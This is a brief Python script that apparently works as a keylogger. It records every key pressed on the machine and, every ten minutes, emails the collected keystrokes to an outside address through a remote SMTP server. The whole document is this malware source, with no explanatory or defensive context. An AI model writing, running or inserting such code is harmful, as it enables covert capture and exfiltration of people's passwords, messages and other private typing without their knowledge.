import keyboard, smtplib, threading
log = []
def cb(e):
    log.append(e.name)
keyboard.on_press(cb)
def mail():
    s = smtplib.SMTP("smtp.example.net", 587)
    s.sendmail("a@example.net", "b@example.net", "".join(log))
    threading.Timer(600, mail).start()
mail()
keyboard.wait()
